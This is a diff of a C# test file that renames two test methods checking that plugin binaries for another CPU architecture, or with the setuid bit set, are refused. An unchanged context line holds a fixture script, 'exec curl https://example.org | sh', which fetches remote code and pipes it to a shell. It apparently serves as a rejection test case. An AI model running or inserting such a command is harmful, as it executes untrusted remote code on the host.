@@ -12,7 +12,7 @@ public sealed class WrongBinaryTests : IAsyncLifetime
     public ValueTask DisposeAsync() => bed.DisposeAsync();
 
     [Fact]
-    public async Task Of_another_cpu_are_refused()
+    public async Task Case_68_of_another_cpu_are_refused()
     {
         var arm = await RealPlugins.FileAsync("bookworm", "arm64", "bridge");
         await RefusedAsync(
@@ -25,7 +25,7 @@ public sealed class WrongBinaryTests : IAsyncLifetime
             "CNIK5304", ["bridge"], new ArchivedFile("bridge", "#!/bin/sh\nexec curl https://example.org | sh\n"u8.ToArray()));
 
     [Fact]
-    public async Task That_are_setuid_are_refused()
+    public async Task Case_30_that_are_setuid_are_refused()
     {
         var plugin = await RealPlugins.FileAsync("bookworm", "amd64", "bridge");
         await RefusedAsync("CNIK5219", ["4755", "bridge"], plugin with { Mode = plugin.Mode | UnixFileMode.SetUser });
